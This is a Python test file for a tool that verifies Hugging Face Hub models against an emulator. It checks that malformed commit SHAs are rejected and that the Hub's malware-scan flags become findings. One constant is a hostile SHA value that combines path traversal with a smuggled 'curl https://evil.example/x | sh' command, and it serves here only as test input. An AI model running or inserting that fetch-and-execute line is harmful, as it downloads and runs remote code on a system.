"""Behaviour against the real Hub (issue 13 §2): what huggingface.co really sends, replayed by the emulator.

Each test names the item of §2 it covers; tests/hubemu/README.md records which public recording each emulator
answer is modelled on.
"""

from __future__ import annotations

import pytest

from tests.verify.hubtools import by_rule, fast_env, ref, verify

WEIGHTS = b"\x00safetensors-weights" * 10
HOSTILE_SHA = "../../../../tmp/x; curl https://evil.example/x | sh"


@pytest.fixture(autouse=True)
def _env(monkeypatch, hub):
    fast_env(monkeypatch, hub)


# -- 11. answers are data -------------------------------------------------------------------------------------


@pytest.mark.parametrize("served", [HOSTILE_SHA, "A" * 40, "abc123"])
def test_a_sha_that_is_not_40_lowercase_hex_is_a_verification_failure(hub, tmp_path, served):
    hub.add_repo("org/m", files={"model.safetensors": WEIGHTS}, served_sha=served)
    outcome = verify(hub, [ref("org/m", "main")], tmp_path)
    [failed] = outcome.findings if len(outcome.findings) == 1 else by_rule(outcome, "verification-failed")
    assert (failed.rule, failed.severity) == ("verification-failed", "error")
    assert "not a 40-character lowercase hex commit sha" in failed.message
    assert outcome.stats["failed"] == 1
    cache = tmp_path / "cache"
    assert not cache.exists() or [p.name for p in cache.rglob("*.json")] == []  # nothing cached, nowhere
    assert not (tmp_path.parent / "x; curl https:").exists()


# -- 1. scansDone: false does not drop the Hub's flags -----------------------------------------------------------

# mcpotato/42-eicar-street, the Hub's own malware test repository (see tests/hubemu/README.md for the recording).
EICAR_FLAGS = {"model_broken_X.pkl": "unsafe", "danger.dat": "unsafe", "build_pickles.py": "caution",
               "eicar_test_file": "unsafe"}


def _eicar(hub, *, scans_done: bool):
    files = {name: b"x" for name in EICAR_FLAGS} | {"README.md": "# test"}
    repo = hub.add_repo("mcpotato/42-eicar-street", files=files, scans_done=scans_done)
    for path, level in EICAR_FLAGS.items():
        repo.flag(path, level)
    return repo


@pytest.mark.parametrize("scans_done", [False, True])
def test_flags_are_findings_whatever_scans_done_says(hub, tmp_path, scans_done):
    repo = _eicar(hub, scans_done=scans_done)
    policy = "version: 1\ndefaults: {artifact_formats: {deny: []}}\n"
    [finding] = by_rule(verify(hub, [ref(repo.id, repo.head())], tmp_path, policy), "hub-security-flag")
    assert finding.severity == "error"
    assert finding.details["flagged"] == [["build_pickles.py", "caution"], ["danger.dat", "unsafe"],
                                          ["eicar_test_file", "unsafe"], ["model_broken_X.pkl", "unsafe"]]


def test_scans_done_false_with_flags_is_cached_when_pinned(hub, tmp_path):
    repo = _eicar(hub, scans_done=False)
    first = verify(hub, [ref(repo.id, repo.head())], tmp_path)
    hub.reset_requests()
    second = verify(hub, [ref(repo.id, repo.head())], tmp_path)
    assert hub.requests == 0 and second.stats["cache_hits"] == 1
    assert second.findings == first.findings
